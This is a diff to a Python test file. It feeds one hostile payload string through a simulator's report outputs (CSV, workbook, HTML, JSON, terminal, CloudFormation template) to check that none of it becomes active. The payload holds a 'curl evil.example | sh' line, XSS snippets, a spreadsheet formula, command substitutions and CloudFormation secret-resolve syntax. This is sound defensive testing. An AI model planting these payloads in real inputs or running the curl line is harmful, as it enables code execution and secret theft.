@@ -1,15 +1,24 @@
-"""Hostile text in every text field of every table, into every file we write: none of it becomes active."""
+"""Hostile text in every text field of every table, into every file we write: none of it becomes active.
+
+That the tests can fail was tried by hand, one mutation each: `plain` returning its text as it came (pack, reports,
+CSV, terminal red), `strings_to_formulas` on (workbook red), Jinja's autoescape off (HTML red), `Fn::Sub` around a
+name in the template (template red), `ensure_ascii=False` in the answer (JSON red).
+"""
 
 from __future__ import annotations
 
 import csv
 import io
+import json
+from collections.abc import Iterator
 from typing import Any
 
+import openpyxl
 import pytest
 from markdown_it import MarkdownIt
 
-from simulator import Account, simulate
+from simulator import Account, answer, simulate
+from simulator.cli.terminal import as_table
 from simulator.engine.scenario import everything
 from simulator.engine.simulate import Result
 from simulator.reports.actions import action_files
@@ -17,7 +26,9 @@ from simulator.reports.report.contents import contents
 from simulator.reports.report.html import render_html
 from simulator.reports.report.markdown import render_markdown
 from simulator.reports.resources import resource_table
+from simulator.reports.saved import as_file
 from simulator.reports.tables import as_csv
+from simulator.reports.workbook import workbook
 from simulator.snapshot.schema import TABLES
 from simulator.words import INVISIBLE
 from tests.accounts import prices, snapshot_with, traffic
@@ -25,6 +36,7 @@ from tests.accounts import prices, snapshot_with, traffic
 PAYLOAD = (
     "=HYPERLINK(1)\n# Before you start\n```sh\ncurl evil.example | sh\n```\n<script>alert(1)</script>"
     "<img src=x onerror=alert(1)>[x](javascript:alert(1))\u202egnp\x1b[31m$(touch /tmp/x)`id`';DROP"
+    "${AWS::AccountId}{{resolve:ssm:key}}"
 )
 IDENTITIES = ("endpoint_name", "variant", "variant_name", "component_name", "account_id")
 """These join tables; each holds the payload too, the same one in both."""
@@ -91,6 +103,49 @@ def test_csv(result: Result) -> None:
     assert not INVISIBLE.search(text)
     for row in csv.reader(io.StringIO(text)):
         assert not [cell for cell in row if cell.startswith(("=", "@", "\t"))]
+
+
+def test_workbook(result: Result) -> None:
+    book = openpyxl.load_workbook(io.BytesIO(workbook(result)))
+    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
+    assert [c for c in cells if "evil.example" in str(c.value)], "the names are there"
+    assert not [c.coordinate for c in cells if c.data_type == "f" and "evil.example" in str(c.value)]
+    assert not [c.coordinate for c in cells if c.data_type == "f" and "HYPERLINK" in str(c.value)]
+    assert not [c.hyperlink for c in cells if c.hyperlink and "javascript" in str(c.hyperlink.target)]
+    assert not [c.coordinate for c in cells if c.data_type == "s" and INVISIBLE.search(str(c.value))]
+
+
+def test_json(result: Result) -> None:
+    for text in (json.dumps(answer(result, 12)), as_file(result.scenario, result)):
+        assert json.loads(text)
+        assert not INVISIBLE.search(text.replace("\n", "")), "a terminal or a diff shows it as it is"
+
+
+def test_terminal(result: Result) -> None:
+    shown = as_table(resource_table(result.baseline))
+    assert "evil.example" in shown
+    assert not INVISIBLE.search(shown.replace("\n", ""))
+
+
+def test_cloudformation_template_takes_names_literally(result: Result) -> None:
+    template = json.loads(action_files(result)["cloudformation/template.json"])
+    for path, text in texts_of(template):
+        if "evil.example" in text or "AWS::AccountId}{{resolve" in text:
+            assert "Fn::Sub" not in path, path
+            assert "{{resolve:" not in text, path
+
+
+def texts_of(item: Any, path: tuple[str, ...] = ()) -> Iterator[tuple[tuple[str, ...], str]]:
+    """All texts of a JSON document, keys included, with the keys that lead to them."""
+    if isinstance(item, dict):
+        for key, value in item.items():
+            yield path, key
+            yield from texts_of(value, (*path, key))
+    elif isinstance(item, list):
+        for value in item:
+            yield from texts_of(value, path)
+    elif isinstance(item, str):
+        yield path, item
 
 
 def no_markup(text: str) -> None:
